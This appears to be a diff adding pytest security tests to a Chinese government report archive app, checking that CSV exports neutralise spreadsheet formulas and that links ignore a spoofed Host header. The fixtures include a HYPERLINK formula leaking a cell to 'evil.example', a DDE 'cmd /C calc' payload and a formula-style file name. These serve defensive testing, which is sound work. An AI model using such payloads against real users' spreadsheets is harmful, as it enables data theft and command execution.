@@ -233,3 +233,50 @@ def test_the_hostile_report_is_escaped_wherever_it_is_shown(hostile, q):
         page = client.get(path, query_string={"q": q})
         check(page, "<script>alert(1)")
         assert "<img src=x" not in page.get_data(as_text=True)
+
+
+# -- spreadsheet formulas and the Host header (issue 16) ------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"云溪市2021年法治政府建设年度报告")'
+FORMULA_REPORT = """云溪市2021年法治政府建设年度报告
+一、总体情况
+=1+cmd|' /C calc'!A0 全年收到行政复议申请152件，受理138件。
+二、存在的问题
+@SUM(1+1) 规范性文件审查共计45件，纠正3件。
+"""
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory):
+    """An archive holding one report whose title and passages start like spreadsheet formulas."""
+    import json
+
+    config = load_config({}, data_dir=tmp_path_factory.mktemp("formulas") / "data", embedder="hash",
+                         api_tokens=(TOKEN,), base_url="https://archive.example.gov.cn/reports")
+    client = create_app(config).test_client()
+    resp = client.post("/api/v1/documents", headers={"Authorization": f"Bearer {TOKEN}"},
+                       content_type="multipart/form-data",
+                       data={"file": (io.BytesIO(FORMULA_REPORT.encode()), "=formula.txt"),
+                             "metadata": json.dumps({"title": FORMULA_TITLE}, ensure_ascii=False)})
+    assert resp.status_code == 201, resp.get_json()
+    return client
+
+
+@pytest.mark.parametrize("q", ["行政复议", "规范性文件"])
+def test_csv_exports_never_hold_a_formula(formulas, q):
+    import csv
+
+    resp = formulas.get("/api/v1/export/search.csv", query_string={"q": q, "mode": "keyword"})
+    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert rows[1:] and f"'{FORMULA_TITLE}" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+
+
+def test_export_links_come_from_the_base_url_not_the_host_header(formulas):
+    resp = formulas.get("/api/v1/export/search.json", query_string={"q": "行政复议"},
+                        headers={"Host": "evil.example"})
+    rows = resp.get_json()["rows"]
+    assert rows and all(r["url"].startswith("https://archive.example.gov.cn/reports/doc/") for r in rows)
+    page = formulas.get("/help", headers={"Host": "evil.example"}).get_data(as_text=True)
+    assert "evil.example" not in page and "https://archive.example.gov.cn/reports/api/v1/search" in page
